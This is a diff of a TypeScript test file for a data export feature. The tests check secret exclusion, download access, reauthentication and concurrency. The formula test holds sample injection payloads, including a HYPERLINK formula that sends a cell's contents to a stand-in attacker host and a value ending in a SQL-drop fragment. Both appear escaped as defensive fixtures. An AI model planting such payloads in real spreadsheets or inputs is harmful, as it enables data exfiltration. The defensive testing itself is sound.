@@ -48,10 +48,10 @@ const start = async (who: Visitor) => {
   expect(status, body.message).toBe(201)
   return body.data._id
 }
-const mine = async (who: Visitor) =>
+const exportsOf = async (who: Visitor) =>
   (await who.call<{ rows: ExportView[] }>('GET', '/console/exports')).body.data.rows
-async function finished(exportId: string, who = radhika): Promise<ExportView> {
-  const match = async () => (await mine(who)).find(({ _id }) => _id === exportId)
+async function waitUntilDone(exportId: string, who = radhika): Promise<ExportView> {
+  const match = async () => (await exportsOf(who)).find(({ _id }) => _id === exportId)
   await expect.poll(async () => (await match())?.state, { timeout: 20_000 }).toBe('done')
   return (await match()) as ExportView
 }
@@ -61,8 +61,8 @@ const fetchFile = (who: Visitor, exportId: string) =>
     url: `/api/v1/console/exports/${exportId}/file`,
     headers: { cookie: cookieOf(who) },
   })
-/** The files by name, as tables. */
-async function unzipped(exportId: string): Promise<Map<string, string[][]>> {
+/** Downloads an export. Returns the files in it by name, as tables. */
+async function readZip(exportId: string): Promise<Map<string, string[][]>> {
   const { statusCode, rawPayload, headers } = await fetchFile(radhika, exportId)
   expect(statusCode).toBe(200)
   expect(headers['content-type']).toBe('application/zip')
@@ -80,9 +80,9 @@ async function unzipped(exportId: string): Promise<Map<string, string[][]>> {
 
 test('an export is a zip of a CSV file for each table, from one state of the database', async () => {
   const exportId = await start(radhika)
-  const done = await finished(exportId)
+  const done = await waitUntilDone(exportId)
   expect(done).toMatchObject({ done: done.total, retainedUntil: '2026-11-24T06:30:00.000Z' })
-  const files = await unzipped(exportId)
+  const files = await readZip(exportId)
   expect(files.size).toBe(done.tables)
   expect([...files.values()].reduce((sum, rows) => sum + rows.length - 1, 0)).toBe(done.rows)
   for (const name of [
@@ -105,13 +105,13 @@ test('an export is a zip of a CSV file for each table, from one state of the dat
   expect(files.get('booking.csv')).toHaveLength(1)
 })
 
-test('every table of the database is exported, or listed with the reason why not', async () => {
+test('every table of the database is exported, or listed with the reason why it is not', async () => {
   const { rows } = await sql<{ name: string }>`
     select relname as name from pg_class
     where relnamespace = 'public'::regnamespace and relkind in ('r', 'p', 'm', 'f')`.execute(server.deps.db)
   const exportId = await start(radhika)
-  await finished(exportId)
-  const files = await unzipped(exportId)
+  await waitUntilDone(exportId)
+  const files = await readZip(exportId)
   expect([...files.keys(), ...Object.keys(excludedTables).map((name) => `${name}.csv`)].toSorted()).toEqual(
     rows.map(({ name }) => `${name}.csv`).toSorted(),
   )
@@ -132,20 +132,20 @@ test('every column of an exported table is exported, except the listed secrets',
   ])
 })
 
-test('no cell starts like a formula', async () => {
+test('no cell would run as a formula in a spreadsheet', async () => {
   const exportId = await start(radhika)
-  await finished(exportId)
-  const files = await unzipped(exportId)
+  await waitUntilDone(exportId)
+  const files = await readZip(exportId)
   const cells = [...files.values()].flat(2)
   expect(cells.filter((cell) => /^[=+@\t\r|%＝＋－＠]/.test(cell))).toEqual([])
-  // A negative number is not a formula; text that starts with the same sign is.
+  // A negative number is not a formula. Other text that starts with a minus sign may be one.
   expect(cells.filter((cell) => cell.startsWith('-') && !/^-\d+$/.test(cell))).toEqual([])
   const people = files.get('person.csv') ?? []
   expect(people.flat()).toContain('\'=HYPERLINK("http://evil.example?"&A1)')
   expect(people.flat()).toContain("'+1\t@SUM(A1)\n'; drop")
 })
 
-test('no secrets are exported: no passwords, tokens or sealed secrets, also not from tables added later', async () => {
+test('no passwords, tokens or sealed secrets are exported, even from tables that are added later', async () => {
   const { db } = server.deps
   await server.database.asOwner(async (owner) => {
     await owner.query(
@@ -157,8 +157,8 @@ test('no secrets are exported: no passwords, tokens or sealed secrets, also not 
     await owner.query('grant select on added_later to contrology_app')
   })
   const exportId = await start(radhika)
-  await finished(exportId)
-  const files = await unzipped(exportId)
+  await waitUntilDone(exportId)
+  const files = await readZip(exportId)
   const all = JSON.stringify([...files])
   const hashes = await db.selectFrom('person').select('passwordHash').execute()
   for (const { passwordHash } of hashes) expect(all).not.toContain(passwordHash)
@@ -177,8 +177,8 @@ test('no secrets are exported: no passwords, tokens or sealed secrets, also not 
     ['id', 'note'],
     ['1', 'told'],
   ])
-  for (const gone of ['refresh_token', 'passkey', 'recovery_code', 'authenticator_app', 'one_time_code'])
-    expect(files.has(`${gone}.csv`), gone).toBe(false)
+  for (const name of ['refresh_token', 'passkey', 'recovery_code', 'authenticator_app', 'one_time_code'])
+    expect(files.has(`${name}.csv`), name).toBe(false)
 })
 
 test.each(['password_hash', 'token_hash', 'sealed_secret', 'device_digest', 'api_secret'])(
@@ -195,12 +195,12 @@ test('lists and records are written as JSON, and missing values as null', () => 
   expect([cellOf(null), cellOf(undefined), cellOf(false), cellOf(0)]).toEqual([null, null, false, 0])
 })
 
-test('only the owner who requested an export can download it, for a day; each download is recorded', async () => {
+test('only the owner who started an export can download it, for a day, and each download is audited', async () => {
   const exportId = await start(radhika)
-  await finished(exportId)
+  await waitUntilDone(exportId)
   expect((await fetchFile(other, exportId)).statusCode).toBe(404)
   expect((await other.call('POST', `/console/exports/${exportId}/downloads`)).status).toBe(404)
-  expect(await mine(other)).toEqual([])
+  expect(await exportsOf(other)).toEqual([])
   const { body } = await radhika.call<{ href: string }>('POST', `/console/exports/${exportId}/downloads`)
   expect(body.data.href).toBe(`/api/v1/console/exports/${exportId}/file`)
   const recorded = async () => {
@@ -228,9 +228,9 @@ test('only the owner who requested an export can download it, for a day; each do
   expect(await readdir(folder)).not.toContain(`${exportId}.zip`)
 })
 
-test('starting an export and downloading it need a recent identity check', async () => {
+test('starting an export and downloading it require reauthentication', async () => {
   const exportId = await start(radhika)
-  await finished(exportId)
+  await waitUntilDone(exportId)
   server.clock.advance({ minutes: 11 })
   const refused = [
     (await radhika.call('POST', '/console/exports')).body.error?.code,
@@ -240,13 +240,13 @@ test('starting an export and downloading it need a recent identity check', async
   expect(refused).toEqual(Array(3).fill('FRESH_PROOF_REQUIRED'))
 })
 
-test('repeated requests return the running export, also at the same moment', async () => {
+test('repeated requests return the running export, even simultaneous ones', async () => {
   const ids = await Promise.all([start(radhika), start(radhika), start(radhika)])
   expect([...ids, await start(radhika)]).toEqual(Array(4).fill(ids[0]))
-  await finished(ids[0] as string)
+  await waitUntilDone(ids[0] as string)
 })
 
-test('an export that is unfinished after a day does not block another one', async () => {
+test('an export that is not finished after a day does not prevent another one', async () => {
   const { db, clock } = server.deps
   const startedBy = (await radhika.call<{ _id: string }>('GET', '/user/get-user')).body.data._id
   const before = clock.now().subtract({ hours: 25 }).toString()
@@ -257,11 +257,11 @@ test('an export that is unfinished after a day does not block another one', asyn
     .executeTakeFirstOrThrow()
   const exportId = await start(radhika)
   expect(exportId).not.toBe(stuck.id)
-  await finished(exportId)
-  expect((await mine(radhika)).find(({ _id }) => _id === stuck.id)?.state).toBe('failed')
+  await waitUntilDone(exportId)
+  expect((await exportsOf(radhika)).find(({ _id }) => _id === stuck.id)?.state).toBe('failed')
 })
 
-test('an export that cannot be written is shown as failed', async () => {
+test('an export whose file cannot be written is shown as failed', async () => {
   const { deps } = server
   const blocked = { ...deps, dataDir: join(deps.dataDir, 'blocked') }
   const { runExport } = await import('./usecases/exportData.server.ts')
@@ -272,19 +272,19 @@ test('an export that cannot be written is shown as failed', async () => {
   // A folder blocks the path of the file.
   await mkdir(join(blocked.dataDir, 'exports', `${exportId}.zip.part`), { recursive: true })
   await runExport(blocked, exportId)
-  expect((await mine(radhika)).find(({ _id }) => _id === exportId)?.state).toBe('failed')
+  expect((await exportsOf(radhika)).find(({ _id }) => _id === exportId)?.state).toBe('failed')
 })
 
-const somebodyWaits = () =>
+const waitForLock = () =>
   vi.waitFor(async () => {
     const { rows } = await sql`select from pg_locks join pg_stat_activity using (pid)
       where datname = current_database() and not granted`.execute(server.deps.db)
     expect(rows.length).toBeGreaterThan(0)
   })
 
-test('a download that has begun ends, even if the file is removed', async () => {
+test('a download that has begun is completed, even if the file is removed', async () => {
   const exportId = await start(radhika)
-  await finished(exportId)
+  await waitUntilDone(exportId)
   const file = join(server.deps.dataDir, 'exports', `${exportId}.zip`)
   const { size } = await stat(file)
   let fetched: ReturnType<typeof fetchFile> | undefined
@@ -292,14 +292,14 @@ test('a download that has begun ends, even if the file is removed', async () => 
     await owner.query('begin')
     await owner.query('lock table audit_entry in exclusive mode')
     fetched = fetchFile(radhika, exportId)
-    await somebodyWaits()
+    await waitForLock()
     await rm(file)
     await owner.query('rollback')
   })
   expect((await fetched)?.rawPayload.length).toBe(size)
 })
 
-test('an export that starts while old ones are removed keeps its file', async () => {
+test('an export that starts while old exports are removed keeps its file', async () => {
   const { db, clock, dataDir } = server.deps
   const startedBy = (await radhika.call<{ _id: string }>('GET', '/user/get-user')).body.data._id
   const folder = join(dataDir, 'exports')
@@ -307,10 +307,10 @@ test('an export that starts while old ones are removed keeps its file', async ()
   await writeFile(join(folder, over), '')
   let tidied: Promise<void> | undefined
   const exportId = await inTransaction(db, async (trx) => {
-    // The removal has listed the files, and waits to read which exports they belong to.
+    // The removal has listed the files, and waits for the lock to read the exports.
     await sql`lock table long_job in access exclusive mode`.execute(trx)
     tidied = tidyExports(server.deps)
-    await somebodyWaits()
+    await waitForLock()
     const id = await startLongJob(trx, { kind: 'dataExport.run', total: 9, startedBy }, clock.now())
     await writeFile(join(folder, `${id}.zip.part`), '')
     return id
@@ -322,7 +322,7 @@ test('an export that starts while old ones are removed keeps its file', async ()
   await inTransaction(db, (trx) => endLongJob(trx, exportId, { state: 'failed' }, clock.now()))
 })
 
-test('the removal of old exports needs the same number of statements, however many are stored', async () => {
+test('the removal of old exports needs one statement, however many are stored', async () => {
   const counted = countStatements(server.database)
   const folder = join(server.deps.dataDir, 'exports')
   await mkdir(folder, { recursive: true })
